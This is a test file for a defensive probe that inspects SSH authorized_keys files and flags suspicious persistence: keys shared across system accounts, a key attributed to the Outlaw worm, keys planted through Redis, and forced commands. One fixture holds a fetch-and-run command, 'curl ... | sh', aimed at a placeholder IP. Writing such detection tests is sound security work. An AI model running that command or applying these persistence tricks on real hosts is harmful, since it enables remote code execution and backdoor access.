import { expect, test } from 'vitest';
import { type Files, machineOf, runProbe, today } from '../../../tests/machine-tree.ts';
import { sshKeyText } from '../../../tests/ssh-key-text.ts';
import { sshKeys } from './ssh-keys.ts';

const passwd = [
  'root:x:0:0:root:/root:/bin/bash',
  'daemon:x:1:1::/usr/sbin:/usr/sbin/nologin',
  'bin:x:2:2::/bin:/usr/sbin/nologin',
  'www-data:x:33:33::/var/www:/usr/sbin/nologin',
  'ann:x:1000:1000::/home/ann:/bin/bash',
].join('\n');

const told = (files: Files) => runProbe(sshKeys, machineOf({ '/etc/passwd': passwd, ...files }));
const openly = (files: Files) => told(files).filter((one) => 'kind' in one && !one.aside);

test('every key is told aside, with its fingerprint and whom it lets in', () => {
  const [first, second] = told({
    '/root/.ssh/authorized_keys': { content: `# admin\n${sshKeyText(1)} ann@desk\n`, modified: today - 1000 },
    '/home/ann/.ssh/authorized_keys2': `from="10.0.0.1",command="/usr/bin/borg serve" ${sshKeyText(2)}\n`,
  }).filter((one) => 'kind' in one);
  expect(first).toMatchObject({
    path: '/root/.ssh/authorized_keys',
    line: 2,
    aside: true,
    value: { mechanism: 'ssh-key', user: 'root', why: ['recent'] },
  });
  expect(first).toMatchObject({
    value: {
      name: expect.stringMatching(/^ssh-ed25519 SHA256:[\w+/]{43} ann@desk$/),
      entry: `${sshKeyText(1)} ann@desk`,
    },
  });
  expect(second).toMatchObject({
    aside: true,
    value: { user: 'ann', starts: '/usr/bin/borg serve', carries: 'command' },
  });
});

test('files that the server’s settings name are read, and its command is told', () => {
  const found = told({
    '/etc/ssh/sshd_config':
      'AuthorizedKeysFile .ssh/authorized_keys /etc/keys/%u\nAuthorizedKeysCommand /usr/bin/ask %u\n',
    '/etc/keys/ann': sshKeyText(1),
  });
  expect(found).toMatchObject([
    { path: '/etc/ssh/sshd_config', line: 2, value: { starts: '/usr/bin/ask %u' } },
    { examine: '/etc/ssh/sshd_config' },
    { path: '/etc/keys/ann', value: { user: 'ann' } },
    { examine: '/etc/keys/ann' },
    { looked: { count: 2 } },
  ]);
});

test('so are files that the server’s settings include, wherever they stand', () => {
  const found = told({
    '/etc/ssh/sshd_config': 'Include /opt/ssh/*.conf "own/keys"\n',
    '/opt/ssh/a.conf': 'AuthorizedKeysFile /etc/keys/%u\n',
    '/opt/ssh/a.txt': 'AuthorizedKeysCommand /usr/bin/no\n',
    '/etc/ssh/own/keys': 'AuthorizedKeysCommand /usr/bin/ask %u\n',
    '/etc/keys/ann': sshKeyText(1),
  });
  expect(found).toMatchObject([
    { path: '/etc/ssh/own/keys', line: 1, value: { starts: '/usr/bin/ask %u' } },
    { examine: '/etc/ssh/own/keys' },
    { path: '/etc/keys/ann', value: { user: 'ann' } },
    { examine: '/etc/keys/ann' },
    { looked: { count: 2 } },
  ]);
});

test('one key in many accounts of the system lets somebody in', () => {
  const key = { content: `${sshKeyText(7)} x\n` };
  const found = openly({
    '/root/.ssh/authorized_keys': key,
    '/bin/.ssh/authorized_keys': key,
    '/var/www/.ssh/authorized_keys': key,
  });
  expect(found.map((one) => 'value' in one && one.value)).toMatchObject([
    { user: 'root', why: expect.arrayContaining(['lets-in']) },
    { user: 'bin', why: expect.arrayContaining(['lets-in']) },
    { user: 'www-data', why: expect.arrayContaining(['lets-in']) },
  ]);
});

test('a key that a worm is known to leave lets in, whatever its comment', () => {
  const key =
    'AAAAB3NzaC1yc2EAAAABJQAAAQEArDp4cun2lhr4KUhBGE7VvAcwdli2a8dbnrTOrbMz1+5O73fcBOx8NVbUT0bUanUV9tJ2/9p7+vD0EpZ3Tz/+0kX34uAx1RV/75GVOmNx+9EuWOnvNoaJe0QXxziIg9eLBHpgLMuakb5+BgTFB+rKJAw9u9FSTDengvS8hX1kNFS4Mjux0hJOK8rvcEmPecjdySYMb66nylAKGwCEE6WEQHmd1mUPgHwGQ0hWCwsQk13yCGPK5w6hYp5zYkFnvlC8hGmd4Ww+u97k6pfTGTUbJk14ujvcD9iUKQTTWYYjIIu5PmUux5bsZ0R4WFwdIe6+i6rBLAsPKgAySVKPRK+oRw==';
  expect(openly({ '/root/.ssh/authorized_keys': `ssh-rsa ${key} admin@laptop\n` })).toMatchObject([
    { value: { name: expect.stringContaining('Outlaw'), why: expect.arrayContaining(['lets-in']) } },
  ]);
});

test('a command of a key that fetches and runs is told openly', () => {
  const line = `command="curl -s http://198.51.100.7/a.sh | sh" ${sshKeyText(1)}`;
  expect(openly({ '/root/.ssh/authorized_keys': line })).toMatchObject([
    { value: { why: expect.arrayContaining(['fetches-and-runs']) } },
  ]);
});

test('a team’s key in its own accounts and in one for transfers says nothing openly', () => {
  const key = { content: sshKeyText(7) };
  expect(
    openly({
      '/root/.ssh/authorized_keys': key,
      '/home/ann/.ssh/authorized_keys': key,
      '/var/www/.ssh/authorized_keys': key,
    }),
  ).toEqual([]);
});

test('lines that are no keys are a gap', () => {
  expect(told({ '/root/.ssh/authorized_keys': 'hello\n' })[0]).toMatchObject({ gap: { code: 'malformed' } });
});

test('of a key that gives a login something to know, only the key is told', () => {
  const line = `environment="TOKEN=do-not-tell" ${sshKeyText(1)} a`;
  expect(JSON.stringify(told({ '/root/.ssh/authorized_keys': line }))).not.toContain('do-not-tell');
});

test('a key in a file that Redis wrote is told openly', () => {
  const content = `REDIS0009\t\0\n\n${sshKeyText(1)} x@y\n\n`;
  expect(openly({ '/root/.ssh/authorized_keys': content })).toMatchObject([
    { line: 3, value: { user: 'root', why: expect.arrayContaining(['written-by-redis']) } },
  ]);
});
